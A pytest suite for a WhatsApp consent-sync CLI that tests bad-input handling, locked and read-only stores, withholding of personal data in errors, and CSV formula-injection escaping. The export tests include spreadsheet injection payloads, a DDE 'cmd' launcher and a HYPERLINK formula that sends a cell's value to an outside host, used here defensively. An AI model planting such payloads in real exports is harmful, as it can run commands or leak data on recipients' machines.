"""Issue 11: what a careless operator feeds the CLI. Bad rows and lines are reported as
FILE:LINE and cost nothing else; a busy, read-only or misnamed store is a sentence and
an exit code, never a traceback; no error path prints personal data; CSV exports do
not run as formulas; usage errors exit 1; a long import never blocks deliveries."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, create_engine, func, select, text

from tests import payloads as p
from tests.test_web import PATH, body_of, live_server, signed_headers
from waconsent.cli import main
from waconsent.csvfiles import csv_cell, csv_value
from waconsent.store.contacts import upsert_contacts
from waconsent.store.engine import open_engine, reading
from waconsent.store.tables import contacts, events, runs

ROOT = Path(__file__).resolve().parents[1]
RECENT = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=3)
HEADER = "id,name,mobile_phone,opt_in,opt_in_date\n"


def write_config(folder: Path, url: str) -> Path:
    path = folder / "waconsent.toml"
    path.write_text(
        f'[store]\nurl = "{url}"\n[crm]\nkind = "ledger"\n'
        '[whatsapp]\nopt_out_keywords = ["STOP"]\n',
        encoding="utf-8",
    )
    return path


@pytest.fixture
def cfg(tmp_path: Path, store_url: str) -> Path:
    """A ledger config over the parametrized store (SQLite and PostgreSQL)."""
    return write_config(tmp_path, store_url)


def run(cfg: Path, *args: str, stdin: bytes | str | None = None) -> Result:
    return CliRunner().invoke(
        main, ["--config", str(cfg), *args], input=stdin, catch_exceptions=False
    )


def stop_line(n: int) -> str:
    return json.dumps(
        p.payload(p.message(f"4915123{n:06d}", RECENT, "STOP", message_id=f"wamid.LINE{n}"))
    )


def keys(engine: Engine) -> set[str]:
    with engine.connect() as connection:
        return set(connection.execute(select(events.c.key)).scalars())


def contact_ids(engine: Engine) -> list[str]:
    with engine.connect() as connection:
        return list(connection.execute(select(contacts.c.id).order_by(contacts.c.id)).scalars())


# ---------------------------------------------------------------------------- contacts import


def test_contacts_import_refuses_each_bad_row_by_line_and_keeps_the_rest(
    cfg: Path, engine: Engine, tmp_path: Path
) -> None:
    """Over-long fields, dates UTC cannot hold, NUL bytes are refused by line; the rest stored."""
    source = tmp_path / "c.csv"
    source.write_text(
        HEADER
        + "A,Anna,0151 23456701,true,2026-01-01T10:00:00Z\n"
        + f"B,{'x' * 200_000},0151 23456702,true,\n"
        + "C,Cem,0151 23456703,true,9999-12-31T23:59:59-01:00\n"
        + "D,Do\x00ra,0151 23456704,true,\n"
        + 'E,"Eve\nSecond line",0151 23456705,false,\n'
        + "F,Fritz,0151 23456706,true,0001-01-01T00:00:00+01:00\n"
        + "G,Gina,0151 23456707,true,\n",
        encoding="utf-8",
    )
    result = run(cfg, "contacts", "import", str(source))
    assert result.exit_code == 1
    assert f"{source}:3: not readable as CSV (field larger than field limit" in result.output
    assert (
        f"{source}:4: opt_in_date: '9999-12-31T23:59:59-01:00' is outside the years 1 to "
        "9999 in UTC"
    ) in result.output
    assert f"{source}:5: name: contains a NUL byte" in result.output
    assert f"{source}:8: opt_in_date: '0001-01-01T00:00:00+01:00' is outside" in result.output
    assert f"{source}: 3 contacts imported, 4 refused, 0 warnings" in result.output
    assert contact_ids(engine) == ["A", "E", "G"]
    assert "Traceback" not in result.output


def test_latin1_piped_to_dash_refuses_those_rows_only(cfg: Path, engine: Engine) -> None:
    """Latin-1 bytes on stdin refuse their rows by line as not UTF-8; the UTF-8 rows are stored."""
    data = (
        HEADER
        + "A,Anna,0151 23456701,true,\nB,Fr\xe9d\xe9ric,0151 23456702,true,\n"
        + "C,Cem,0151 23456703,true,\n"
    ).encode("latin-1")
    result = run(cfg, "contacts", "import", "-", stdin=data)
    assert result.exit_code == 1
    assert "-:3: name: not UTF-8 text" in result.output
    assert "-: 2 contacts imported, 1 refused" in result.output
    assert contact_ids(engine) == ["A", "C"]


def test_contacts_import_commits_in_chunks_and_a_store_refusal_costs_one_row(
    cfg: Path, engine: Engine, tmp_path: Path
) -> None:
    """A row the store refuses is reported by line; the other rows of its chunk are stored."""
    with engine.begin() as connection:
        if engine.dialect.name == "postgresql":
            connection.execute(
                text("ALTER TABLE contacts ADD CONSTRAINT no_x CHECK (name <> 'Refused Name')")
            )
        else:
            connection.execute(
                text(
                    "CREATE TRIGGER no_x BEFORE INSERT ON contacts WHEN "
                    "NEW.name = 'Refused Name' BEGIN SELECT RAISE(ABORT, 'x'); "
                    "END"
                )
            )
    rows = [
        f"R{i:04d},{'Refused Name' if i == 2777 else f'Name {i}'},0151 2{i:07d},true,"
        for i in range(4500)
    ]  # three chunks of at most 2,000
    source = tmp_path / "many.csv"
    source.write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")
    result = run(cfg, "contacts", "import", str(source))
    assert result.exit_code == 1
    assert f"{source}:2779: refused by the store (IntegrityError)" in result.output
    assert "Refused Name" not in result.output
    assert f"{source}: 4499 contacts imported, 1 refused" in result.output
    assert len(contact_ids(engine)) == 4499 and "R2777" not in contact_ids(engine)


# ---------------------------------------------------------------------------- webhook import


def test_import_reports_each_unusable_line_and_stores_every_good_one(
    cfg: Path, engine: Engine, tmp_path: Path
) -> None:
    """Too-deep, huge-integer, surrogate and non-UTF-8 lines are reported; good lines stored."""
    big = stop_line(2).replace(f'"{int(RECENT.timestamp())}"', "7" * 5000)
    surrogate = stop_line(3).replace("wamid.LINE3", "wamid.\\ud800")
    lines = [
        stop_line(1).encode(),
        b"[" * 100_000 + b"]" * 100_000,
        big.encode(),
        surrogate.encode(),
        stop_line(4).encode(),
        b"{\xe9\xff not json",
        stop_line(5).encode().replace(b"hello", b"h\xe9llo"),
        stop_line(6).encode(),
    ]
    archive = tmp_path / "a.ndjson"
    archive.write_bytes(b"\n".join(lines) + b"\n")
    result = run(cfg, "import", str(archive))
    assert result.exit_code == 1
    assert f"{archive}:2: not usable JSON (nested too deeply)" in result.output
    assert (
        f"{archive}:3: skipped entry[0].changes[0].value.messages[0]: timestamp is not Unix seconds"
    ) in result.output
    assert (
        f"{archive}:4: skipped entry[0].changes[0].value.messages[0]: message_id is not "
        "valid Unicode"
    ) in result.output
    assert f"{archive}:6: not JSON" in result.output
    assert f"{archive}: 4 stored, 0 duplicates, 0 acknowledged, 4 skipped" in result.output
    assert {k for k in keys(engine)} == {
        "msg:wamid.LINE1",
        "msg:wamid.LINE4",
        "msg:wamid.LINE5",
        "msg:wamid.LINE6",
    }


def test_ndjson_lines_end_at_newlines_only(cfg: Path, engine: Engine, tmp_path: Path) -> None:
    """A payload holding U+2028 or a form feed inside a string is one line, not three."""
    line = stop_line(1).replace('"Test"', '"Te\\u2028st"').replace("Test", "T\u2028e\x0cst")
    archive = tmp_path / "a.ndjson"
    archive.write_text(line + "\n" + stop_line(2) + "\n", encoding="utf-8")
    result = run(cfg, "import", str(archive))
    assert result.exit_code == 0, result.output
    assert keys(engine) == {"msg:wamid.LINE1", "msg:wamid.LINE2"}


bad_lines = st.one_of(
    st.text(max_size=60).map(lambda t: t.replace("\n", " ").encode("utf-8", "surrogatepass")),
    st.binary(max_size=60).map(lambda b: b.replace(b"\n", b" ")),
    st.integers(min_value=1, max_value=200_000).map(lambda d: b"[" * d + b"]" * d),
    st.integers(min_value=4301, max_value=6000).map(lambda n: b"9" * n),
    st.sampled_from(
        [
            b'"\\ud800"',
            b'{"entry": [{"changes": [{"value": "\\udfff"}]}]}',
            b'{"entry": 1}',
            b"null",
            b"[",
            b"\xef\xbb\xbf{}",
        ]
    ),
)


def test_import_property_every_good_line_is_stored(tmp_path: Path, store_url: str) -> None:
    """Any archive of good STOP lines among arbitrary bad lines stores every good line."""
    cfg = write_config(tmp_path, store_url)
    engine = open_engine(store_url)
    counter = iter(range(10**9))

    @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(layout=st.lists(st.booleans() | bad_lines, min_size=1, max_size=8))
    def check(layout: list[bool | bytes]) -> None:
        lines, expected = [], set()
        for slot in layout:
            if slot is True or slot is False:
                n = next(counter)
                lines.append(stop_line(n).encode())
                expected.add(f"msg:wamid.LINE{n}")
            else:
                lines.append(slot)
        archive = tmp_path / "prop.ndjson"
        archive.write_bytes(b"\n".join(lines))
        result = CliRunner().invoke(main, ["--config", str(cfg), "import", str(archive)])
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            result.exception
        )
        assert result.exit_code in (0, 1)
        assert f"{archive}: " in result.output and " stored, " in result.output
        assert expected <= keys(engine)

    try:
        check()
    finally:
        engine.dispose()


# ---------------------------------------------------------------------------- store state


def sqlite_with_option(store_url: str, option: str) -> str:
    return f"{store_url}{'&' if '?' in store_url else '?'}{option}"


def postgres_with_setting(store_url: str, setting: str) -> str:
    return store_url + "%20-c" + setting.replace("=", "%3D")


def test_read_only_store_is_exit_3_with_a_sentence(
    tmp_path: Path, store_url: str, engine: Engine
) -> None:
    """A read-only store makes a write exit 3 with a sentence, not a traceback; reads work."""
    if engine.dialect.name == "sqlite":
        database = store_url.removeprefix("sqlite:///")
        url = f"sqlite:///file:{database}?mode=ro&uri=true"
    else:
        url = postgres_with_setting(store_url, "default_transaction_read_only=on")
    cfg = write_config(tmp_path, url)
    source = tmp_path / "c.csv"
    source.write_text(HEADER + "A,Anna,0151 23456701,true,\n", encoding="utf-8")
    result = run(cfg, "contacts", "import", str(source))
    assert result.exit_code == 3
    assert "the store is read-only" in result.output and "Traceback" not in result.output
    assert f"{source}: 0 contacts imported" in result.output
    assert run(cfg, "runs").exit_code == 0


def test_locked_store_is_exit_3_with_a_sentence(
    tmp_path: Path, store_url: str, engine: Engine
) -> None:
    """A store whose lock another process holds beyond the wait is exit 3, "busy"."""
    source = tmp_path / "c.csv"
    source.write_text(HEADER + "A,Anna,0151 23456701,true,\n", encoding="utf-8")
    if engine.dialect.name == "sqlite":
        database = store_url.removeprefix("sqlite:///")
        cfg = write_config(tmp_path, sqlite_with_option(store_url, "timeout=0.3"))
        holder = sqlite3.connect(database, isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")
        release = holder.close
    else:
        cfg = write_config(tmp_path, postgres_with_setting(store_url, "lock_timeout=300"))
        locker = create_engine(store_url)
        connection = locker.connect()
        connection.execute(text("LOCK TABLE contacts IN ACCESS EXCLUSIVE MODE"))

        def release() -> None:
            connection.rollback()
            connection.close()
            locker.dispose()

    try:
        started = time.monotonic()
        result = run(cfg, "contacts", "import", str(source))
        assert time.monotonic() - started < 10
    finally:
        release()
    assert result.exit_code == 3
    assert "the store is busy" in result.output and "Traceback" not in result.output


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        (
            "postgresql+asyncpg://waconsent@localhost/ledger",
            "the driver 'asyncpg' is not supported",
        ),
        ("postgresql://waconsent@localhost/ledger", "name the driver: postgresql+psycopg://"),
        ("sqlite:///", "names no database file"),
        ("sqlite://", "names no database file"),
        ("sqlite:///:memory:", "names no database file"),
        ("mysql://localhost/ledger", "expected a sqlite:/// or postgresql+psycopg:// URL"),
    ],
)
def test_unusable_store_url_is_a_configuration_error(
    tmp_path: Path, url: str, expected: str
) -> None:
    """Another driver or an in-memory SQLite store.url exits 1 naming the file and store.url."""
    cfg = write_config(tmp_path, url)
    result = run(cfg, "runs")
    assert result.exit_code == 1
    assert f"{cfg}: store.url: " in result.output and expected in result.output


def test_store_path_under_a_file_is_a_configuration_error(tmp_path: Path) -> None:
    """A database path that runs through a file is a configuration error naming store.url."""
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x", encoding="utf-8")
    cfg = write_config(tmp_path, f"sqlite:///{blocker}/ledger.db")
    result = run(cfg, "contacts", "export")
    assert result.exit_code == 1
    assert f"store.url: {blocker}/ledger.db lies under {blocker}, which is a file" in result.output


def test_receiver_refuses_an_in_memory_store_at_start(tmp_path: Path) -> None:
    """`waconsent webhook` over sqlite:/// exits 1 naming store.url instead of serving."""
    cfg = write_config(tmp_path, "sqlite:///")
    result = CliRunner(env={"WHATSAPP_APP_SECRET": "s", "WHATSAPP_VERIFY_TOKEN": "t"}).invoke(
        main, ["--config", str(cfg), "webhook"], catch_exceptions=False
    )
    assert result.exit_code == 1 and "store.url" in result.output


# ---------------------------------------------------------------------------- personal data


def test_no_error_path_prints_personal_data(cfg: Path, engine: Engine) -> None:
    """A store error mid-sync prints and records a type and place, never the number or name."""
    with engine.begin() as connection:
        if engine.dialect.name == "postgresql":
            connection.execute(
                text(
                    "ALTER TABLE phone_index ADD CONSTRAINT sabotage "
                    "CHECK (raw NOT LIKE '%23456789%')"
                )
            )
        else:
            connection.execute(
                text(
                    "CREATE TRIGGER sabotage BEFORE INSERT ON phone_index "
                    "BEGIN SELECT RAISE(ABORT, 'sabotage'); END"
                )
            )
    upsert_contacts(
        engine,
        [{"id": "A", "name": "Anna Secretname", "opt_in": True, "mobile_phone": "0151 23456789"}],
        RECENT,
    )
    result = run(cfg, "-v", "sync", "--full")
    assert result.exit_code == 3
    assert "internal error: IntegrityError" in result.output
    assert "message is withheld" in result.output
    with engine.connect() as connection:
        error = connection.execute(select(runs.c.error)).scalar_one()
    for shown in (result.output, error):
        assert "23456789" not in shown and "Secretname" not in shown and "0151" not in shown
    assert error.startswith("IntegrityError")


# ---------------------------------------------------------------------------- CSV injection

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3",
    "'=already quoted",
    "''+twice",
]


def test_contacts_export_neutralises_formulas_and_round_trips(
    cfg: Path, engine: Engine, tmp_path: Path
) -> None:
    """Formula cells are exported with an apostrophe and every value round-trips through import."""
    rows = [
        {
            "id": f"X{i}",
            "name": name,
            "mobile_phone": "+49 151 2345670" + str(i),
            "opt_in_source": "\tweb" if i == 0 else "\rform" if i == 1 else "web-form",
            "opt_in": True,
        }
        for i, name in enumerate(DANGEROUS)
    ]
    upsert_contacts(engine, rows, RECENT)
    exported = run(cfg, "contacts", "export").output
    cells = list(csv.DictReader(io.StringIO(exported, newline="")))
    for cell in cells:
        for column in ("name", "mobile_phone"):
            assert cell[column].startswith("'"), cell[column]
    assert cells[0]["opt_in_source"] == "'\tweb" and cells[1]["opt_in_source"] == "'\rform"
    before = {
        r["id"]: r
        for r in (
            dict(row)
            for row in json.loads(run(cfg, "contacts", "export", "--format", "json").output)
        )
    }
    with engine.begin() as connection:
        connection.execute(contacts.delete())
    source = tmp_path / "again.csv"
    source.write_text(exported, encoding="utf-8")
    assert run(cfg, "contacts", "import", str(source)).exit_code == 0
    after = {
        r["id"]: r for r in json.loads(run(cfg, "contacts", "export", "--format", "json").output)
    }
    for record_id, row in before.items():
        # the import trims whitespace around values, so a leading tab or CR does not survive
        assert {k: v for k, v in after[record_id].items() if k != "opt_in_source"} == {
            k: v for k, v in row.items() if k != "opt_in_source"
        }
    assert [after[f"X{i}"]["name"] for i in range(len(DANGEROUS))] == DANGEROUS
    assert after["X0"]["mobile_phone"] == "+49 151 23456700"


def test_missing_proof_csv_neutralises_formulas(cfg: Path, engine: Engine) -> None:
    """report missing-proof --format csv writes a would-be formula as text."""
    upsert_contacts(
        engine,
        [
            {
                "id": "=1+1",
                "name": '=HYPERLINK("x")',
                "opt_in": True,
                "opt_in_source": "@SUM(A1)",
                "mobile_phone": "0151 23456789",
            }
        ],
        RECENT,
    )
    result = run(cfg, "report", "missing-proof", "--format", "csv")
    rows = list(csv.reader(io.StringIO(result.output, newline="")))
    assert rows[1][:2] == ["'=1+1", '\'=HYPERLINK("x")'] and rows[1][3] == "'@SUM(A1)"


@given(st.text())
def test_csv_cell_is_undone_by_csv_value(value: str) -> None:
    """For any text, import reads an exported cell back exactly and no cell starts a formula."""
    cell = csv_cell(value)
    assert csv_value(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


# ---------------------------------------------------------------------------- exit codes


@pytest.mark.parametrize(
    "args",
    [
        ["--nope"],
        ["sync", "--ful"],
        ["nosuch"],
        ["report", "missing-proof", "--format", "xml"],
        ["import"],
        ["proof"],
        [],
    ],
)
def test_usage_errors_exit_1(args: list[str]) -> None:
    """click's usage errors exit 1, as README says, leaving 2 to "some writes failed"."""
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1, result.output
    assert "Usage:" in result.output


def test_a_record_that_cannot_be_decided_makes_sync_exit_2(cfg: Path, engine: Engine) -> None:
    """A record the rules cannot decide is listed and sync exits 2 after writing the others."""
    from waconsent.domain import Event, EventKind
    from waconsent.store import events as event_store

    upsert_contacts(
        engine,
        [
            {"id": "A", "opt_in": True, "mobile_phone": "0151 23456789"},
            {"id": "B", "opt_in": True, "mobile_phone": "0170 1112233"},
        ],
        RECENT - timedelta(days=1),
    )
    far = Event(
        key="msg:far",
        kind=EventKind.MESSAGE,
        occurred_at=datetime(9999, 12, 31, 23, tzinfo=UTC),
        wa_id="4915123456789",
        opens_session=True,
    )
    with engine.begin() as connection:
        event_store.ingest(connection, [far], "legacy", RECENT)
    archive = cfg.parent / "stop.json"
    archive.write_text(json.dumps(p.payload(p.message("491701112233", RECENT, "STOP"))))
    assert run(cfg, "import", str(archive)).exit_code == 0
    result = CliRunner().invoke(
        main, ["--config", str(cfg), "sync", "--full"], terminal_width=200, catch_exceptions=False
    )
    assert result.exit_code == 2
    assert "A: OverflowError" in result.output
    exported = {
        r["id"]: r for r in json.loads(run(cfg, "contacts", "export", "--format", "json").output)
    }
    assert exported["B"]["opt_in"] is False


# ---------------------------------------------------------------------------- write lock


@pytest.fixture
def shared_sqlite(tmp_path: Path) -> Iterator[tuple[Path, Engine, str]]:
    url = f"sqlite:///{tmp_path / 'shared.db'}"
    engine = open_engine(url)
    yield write_config(tmp_path, url), engine, url
    engine.dispose()


def test_deliveries_never_wait_a_second_during_a_long_contacts_import(
    shared_sqlite: tuple[Path, Engine, str], tmp_path: Path
) -> None:
    """During a 50,000-row contacts import every delivery to the same ledger answers within 1 s."""
    # (commits every 2,000 rows with a pause a waiting writer gets in by; back to back, or
    # in one transaction, a delivery waited 1.5 s or for the whole file)
    cfg, engine, url = shared_sqlite
    rows = 50_000
    source = tmp_path / "big.csv"
    source.write_text(
        HEADER
        + "".join(
            f"C{i:05d},Name {i},0151 2{i:07d},true,2026-01-01T10:00:00Z\n" for i in range(rows)
        ),
        encoding="utf-8",
    )
    latencies: list[float] = []
    while_writing = 0  # deliveries sent while the import had written some rows, not all
    with live_server(engine, url) as server:
        importer = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "waconsent",
                "--config",
                str(cfg),
                "contacts",
                "import",
                str(source),
            ],
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        try:
            deadline = time.monotonic() + 180
            with httpx.Client(timeout=60) as client:
                n = 0
                while importer.poll() is None:
                    assert time.monotonic() < deadline
                    n += 1
                    writing = 0 < contact_count(engine) < rows
                    body = body_of(p.payload(p.message(f"4917{n:08d}", RECENT, "STOP")))
                    started = time.perf_counter()
                    answer = client.post(
                        server.url + PATH, content=body, headers=signed_headers(body)
                    )
                    latencies.append(time.perf_counter() - started)
                    assert answer.status_code == 200 and answer.json()["stored"] == 1
                    while_writing += writing and 0 < contact_count(engine) < rows
                    time.sleep(0.005)
        finally:
            out, err = importer.communicate(timeout=180)
    assert importer.returncode == 0, err.decode()
    assert f"{rows} contacts imported".encode() in out
    assert while_writing >= 5, "too few deliveries overlapped the import's writes"
    assert max(latencies) < 1.0, sorted(latencies)[-5:]


def contact_count(engine: Engine) -> int:
    with reading(engine) as connection:  # deferred: a reader never waits for the writer
        return int(connection.execute(select(func.count()).select_from(contacts)).scalar_one())
